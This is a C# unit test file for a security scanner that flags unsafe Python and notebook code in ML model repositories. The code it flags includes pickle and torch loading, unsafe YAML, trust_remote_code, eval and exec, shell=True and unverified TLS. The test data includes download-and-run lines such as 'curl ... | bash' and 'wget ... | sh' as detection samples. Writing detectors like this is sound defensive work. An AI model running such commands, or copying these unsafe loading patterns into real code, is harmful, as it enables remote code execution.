using MlSecPol.Engine.Models.Repository.Code;
using Xunit;

namespace MlSecPol.Engine.Tests.Models.Repository;

public class PythonCodeTests
{
    private const string Check = "MS1.UnsafeLoadingCode";
    private const string Commit = "0123456789abcdef0123456789abcdef01234567";

    public static TheoryData<string, string> Hostile => new()
    {
        { "import pickle\npickle.load(f)", "code:unsafe-deserialization" },
        { "import pickle as p\nx = p.loads(b)", "code:unsafe-deserialization" },
        { "from pickle import loads as l\nl(b)", "code:unsafe-deserialization" },
        { "from pickle import (\n    load,  # a comment\n    dumps,\n)\nload(f)", "code:unsafe-deserialization" },
        { "from pickle import *\nloads(b)", "code:unsafe-deserialization" },
        { "import pickle\nread = pickle.load\nread(f)", "code:unsafe-deserialization" },
        { "import pickle\nlist(map(pickle.loads, parts))", "code:unsafe-deserialization" },
        { "import pickle\ngetattr(pickle, 'lo' 'ads')(b)", "code:unsafe-deserialization" },
        { "__import__('pickle').loads(b)", "code:unsafe-deserialization" },
        { "import importlib\nimportlib.import_module('pickle').loads(b)", "code:unsafe-deserialization" },
        { "import pickle\nprint(f\"{pickle.loads(b)}\")", "code:unsafe-deserialization" },
        { "import pickle\nprint(f'{\"a\" + f\"{pickle.loads(b)}\"}')", "code:unsafe-deserialization" },
        { "import pickle\nif x: pickle.load(f)", "code:unsafe-deserialization" },
        { "import os; import pickle; pickle.load(f)", "code:unsafe-deserialization" },
        { "import pickle\npickle.Unpickler(f).load()", "code:unsafe-deserialization" },
        { "import joblib\njoblib.load('m.joblib')", "code:unsafe-deserialization" },
        { "import pandas as pd\npd.read_pickle(p)", "code:unsafe-deserialization" },
        { "import torch\ntorch.load(path)", "code:torch-load" },
        { "import torch\ntorch.load(path, map_location='cpu')", "code:torch-load" },
        { "import torch\ntorch.load(path,\n    weights_only=False)", "code:protection-off" },
        { "from torch import load\nload(path)", "code:torch-load" },
        { "import yaml\nyaml.load(f)", "code:unsafe-yaml" },
        { "import yaml\nyaml.load(f, Loader=yaml.Loader)", "code:unsafe-yaml" },
        { "import yaml\nyaml.unsafe_load(f)", "code:unsafe-yaml" },
        { "import numpy as np\nnp.load(p, allow_pickle=True)", "code:protection-off" },
        { "import keras\nkeras.models.load_model(p, safe_mode=False)", "code:protection-off" },
        { "import keras\nkeras.config.enable_unsafe_deserialization()", "code:protection-off" },
        { "AutoModel.from_pretrained(path, trust_remote_code=True)", "code:remote-code" },
        { "options = {'trust_remote_code': True}", "code:remote-code" },
        { "import torch\ntorch.hub.load('pytorch/vision', 'resnet18')", "code:remote-code" },
        { "eval(text)", "code:dynamic" },
        { "exec(base64.b64decode(text))", "code:dynamic" },
        { "\uFF45val(text)", "code:dynamic" },
        { "run(eval)", "code:dynamic" },
        { "import os\nos.system('ls')", "code:shell" },
        { "import subprocess\nsubprocess.run(command, shell=True)", "code:shell" },
        { "import subprocess as sp\nsp.Popen(\n  command,\n  shell = True,\n)", "code:shell" },
        { "import requests\nrequests.get(url, verify=False)", "code:unverified-connection" },
        { "import ssl\nssl._create_default_https_context = ssl._create_unverified_context", "code:unverified-connection" },
    };

    public static TheoryData<string> Clean =>
    [
        "# pickle.load(f)\n",
        "\"\"\"pickle.load(f), eval(x), torch.load(p)\"\"\"\n",
        "text = 'import pickle; pickle.load(f)'\n",
        "print(f'{{eval(x)}} {name}')\n",
        "import torch\ntorch.load(path, weights_only=True)",
        "import torch\ntorch.load(path, map_location=f(a, b), weights_only=True)",
        "import torch\ntorch.load(path, weights_only=weights_only)",
        "import torch\ntorch.load(path, **options)",
        "import yaml\nyaml.safe_load(f)",
        "import yaml\nyaml.load(f, Loader=yaml.SafeLoader)",
        "import yaml\nyaml.load(f, yaml.CSafeLoader)",
        "from yaml import CSafeLoader as L, load\nimport yaml\nyaml.load(f, Loader=yaml.CSafeLoader)",
        "import numpy as np\nnp.load(p)",
        "import numpy as np\nnp.load(p, allow_pickle=False)",
        "model.eval()",
        "self.model.eval()\nnet.train().eval()",
        "def eval(x):\n    return x\n\neval(y)",
        "class M:\n    def eval(self):\n        return self\n",
        "eval('1 + 1')",
        "import pickle\npickle.dump(x, f)",
        "import pickle\nclass Safe(pickle.Unpickler):\n    pass\n",
        "import pickle\ntry:\n    pass\nexcept pickle.UnpicklingError:\n    pass",
        "import json\njson.load(f)",
        "from .loading import load\nload(f)",
        "loads(b)",
        "import subprocess\nsubprocess.run(['ls', path], check=True)",
        "import subprocess\nsubprocess.run(['ls'], shell=False)",
        "AutoModel.from_pretrained(path)",
        "AutoModel.from_pretrained('./local')",
        $"AutoModel.from_pretrained('org/name', revision='{Commit}')",
        "AutoModel.from_pretrained(name, trust_remote_code=False)",
        "import requests\nrequests.get(url, verify=True)",
        "check(value, verify=False)",
        "import torch\ntorch.hub.load('.', 'model', source='local')",
        "x = {'trust_remote_code': False}",
        "pattern = r'\\\\'\nname = rb\"\\\"\"\n",
        "a = '''x\n# pickle.load(f)\n'''\n",
        "if a == b: c = d\n",
        "print('pip install x')",
        "",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void What_code_does_is_found(string code, string rule)
    {
        using var folder = new ModelFolder(("load.py", code));
        var result = folder.Answer(Check);
        Assert.Equal(CheckStatus.Fail, result.Status);
        Assert.Contains(result.Findings, f => f.Rule == rule);
    }

    [Theory]
    [MemberData(nameof(Clean))]
    public void What_only_looks_like_it_is_not(string code)
    {
        using var folder = new ModelFolder(("load.py", code));
        var result = folder.Answer(Check);
        Assert.Equal(CheckStatus.Pass, result.Status);
        Assert.DoesNotContain(result.Findings, f => f.Severity > Severity.Info);
    }

    [Theory]
    [InlineData("AutoModel.from_pretrained('org/name')", "code:unpinned-revision")]
    [InlineData("AutoModel.from_pretrained('org/name', revision='main')", "code:unpinned-revision")]
    [InlineData("from huggingface_hub import snapshot_download\nsnapshot_download(repo_id='org/name')", "code:unpinned-revision")]
    [InlineData("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'einops'])", "code:unpinned-install")]
    public void What_nobody_has_fixed_is_noted_and_fails_only_when_strict(string code, string rule)
    {
        using var folder = new ModelFolder(("load.py", code));
        var result = folder.Answer(Check);
        Assert.Equal(CheckStatus.Pass, result.Status);
        Assert.Contains(result.Findings, f => f.Rule == rule && f.Severity == Severity.Medium);
    }

    [Fact]
    public void Findings_name_file_and_line()
    {
        using var folder = new ModelFolder(("src/load.py", "import torch\n\n\n# here\nx = torch.load(\n    path)\n"));
        var finding = Assert.Single(folder.Answer(Check).Findings);
        Assert.Equal(("src/load.py", "src/load.py, line 5", "torch.load"), (finding.Member, finding.Location, finding.Subject));
        Assert.StartsWith("torch.load(", finding.Evidence, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("!pip install torch", "code:unpinned-install", Severity.Medium)]
    [InlineData("%pip install -q transformers accelerate", "code:unpinned-install", Severity.Medium)]
    [InlineData("!curl -sL https://example.org/x.sh | bash", "code:download-and-run", Severity.High)]
    [InlineData("%%bash\\nwget -qO- https://example.org/x | sh", "code:download-and-run", Severity.High)]
    [InlineData("%matplotlib inline\\nimport pickle\\npickle.load(f)", "code:unsafe-deserialization", Severity.High)]
    public void Notebooks_are_read_cell_by_cell(string cell, string rule, Severity severity)
    {
        using var folder = new ModelFolder(("n.ipynb", $$"""{"cells":[{"cell_type":"markdown","source":["pickle.load(f)"]},{"cell_type":"code","source":"{{cell}}","outputs":[]}],"nbformat":4}"""));
        var finding = Assert.Single(folder.Answer(Check).Findings);
        Assert.Equal((rule, severity), (finding.Rule, finding.Severity));
        Assert.Contains("cell 2", finding.Location, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("!pip install torch==2.9.0 numpy==2.3.1")]
    [InlineData("!pip install -r requirements.txt")]
    [InlineData("!ls -l")]
    [InlineData("# !pip install torch")]
    public void Harmless_commands_of_notebooks_are_not_found(string cell)
    {
        using var folder = new ModelFolder(("n.ipynb", $$"""{"cells":[{"cell_type":"code","source":["{{cell}}"]}]}"""));
        Assert.Empty(folder.Answer(Check).Findings);
    }

    [Theory]
    [InlineData("start.pth", "import os; os.getcwd()\n")]
    [InlineData("sitecustomize.py", "x = 1\n")]
    public void What_runs_whenever_Python_starts_is_found(string name, string text)
    {
        using var folder = new ModelFolder((name, text));
        Assert.Contains(folder.Answer(Check).Findings, f => f.Rule == "code:startup-hook");
    }

    [Theory]
    [InlineData("n.ipynb", "{ this is no notebook")]
    [InlineData("n.ipynb", "[1, 2]")]
    [InlineData("a.py", "x = '''never ends\npickle.load(f)")]
    public void What_cannot_be_read_is_an_error_and_no_pass(string name, string text)
    {
        using var folder = new ModelFolder((name, text));
        Assert.Equal(CheckStatus.Error, folder.Answer(Check).Status);
    }

    [Fact]
    public void Deep_nesting_and_long_lines_cost_linear_time()
    {
        string[] hostile = [string.Concat(Enumerable.Repeat("f(", 200_000)), string.Concat(Enumerable.Repeat("f'{", 100_000)), string.Concat(Enumerable.Repeat("a.", 300_000)), new string('(', 400_000), string.Concat(Enumerable.Repeat("eval(", 100_000))];
        foreach (var code in hostile)
        {
            using var folder = new ModelFolder(("x.py", code));
            Assert.True(folder.Read().CodeFiles == 1);
        }
    }

    [Fact]
    public void Tokens_have_their_kinds_and_lines()
    {
        var source = PythonSource.Read("a = rb'x' + f\"{b!r:>{w}}\" # c\r\n\\\nd(1_0.5e3)", TestContext.Current.CancellationToken);
        var kinds = source.Tokens.Select(t => t.Kind).ToArray();
        Assert.Contains(PythonTokenKind.FormattedText, kinds);
        Assert.Equal(3, source.Tokens.Single(t => t.Kind == PythonTokenKind.Number).Line);
        Assert.Null(source.UnendedTextLine);
    }

    [Fact]
    public void Random_sources_never_break_the_reader()
    {
        var random = new Random(7);
        const string Letters = "'\"\"\"'''{}()[]\\\n\r#=.,:; fFrRbB eval exec import from as def class _a1\uFF45";
        for (var round = 0; round < 2_000; round++)
        {
            var text = string.Create(random.Next(1, 60), random, (span, r) => { foreach (ref var c in span) c = Letters[r.Next(Letters.Length)]; });
            var source = PythonSource.Read(text, TestContext.Current.CancellationToken);
            foreach (var call in PythonCalls.Of(source, TestContext.Current.CancellationToken)) Assert.All(CodeRules.Judge(call), h => Assert.NotEmpty(h.Detail));
        }
    }
}
